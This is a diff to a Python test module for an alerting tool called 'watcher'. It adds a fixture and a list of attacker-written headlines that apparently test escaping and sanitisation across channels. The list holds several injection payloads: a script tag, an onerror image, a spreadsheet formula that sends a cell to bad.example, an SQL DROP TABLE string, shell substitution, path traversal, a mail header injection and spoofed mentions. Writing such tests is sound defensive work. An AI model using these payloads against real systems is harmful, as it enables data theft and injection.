@@ -9,10 +9,46 @@ from typing import Any
 import pytest
 
 from watcher.model.alert import Message, OtherSource, Passage
+from watcher.model.thread import Standing
 from watcher.model.watch import Priority
 
 NOW = datetime(2026, 11, 23, 12, tzinfo=UTC)
+HOSTILE = (
+    "Talks <!channel> today",
+    "<!here|all>",
+    "<@U0AB12CD3> read this",
+    "<https://bad.example/x|https://good.example>",
+    "[Good](https://bad.example)",
+    "</a><script>fetch('//bad')</script>",
+    '"><img src=x onerror=alert(1)>',
+    "&lt;b&gt;already escaped&lt;/b&gt;",
+    "*bold* _under_ ~gone~ `code`",
+    "one\r\nBcc: x@bad.example",
+    "line\u2028separator\u0085next",
+    "\x1b[31mred\x07 \x00nul",
+    "\u202egnp.exe and zero\u200bwidth\ufeff",
+    "lone \ud83d surrogate",
+    ":rotating_light: @everyone #general",
+    "{{ 7*7 }} ${x} %s {0}",
+    "<https://bad.example|https://good.example> ||hidden|| ~~gone~~",
+    "# heading\n> quote\n- item\n![x](https://bad.example/pixel)",
+    "=IMPORTXML(CONCAT('https://bad.example/', A1))",
+    "'); DROP TABLE alert; --",
+    "../../../secret %n%s%x $(id) `id`",
+    "<t:0:R> <:party:1234> </say:5678> <#91011>",
+    "e" + "\u0301" * 500,
+    "w" * 5000,
+    "",
+    " \u200b\u2066 ",
+)
+"""Headlines as an attacker would write them, for every channel."""
+
 MakeMessage = Callable[..., Message]
+STANDING = Standing(
+    as_of=NOW,
+    watches=("Ilyin abroad",),
+    priority=Priority.NORMAL,
+)
 
 
 @pytest.fixture
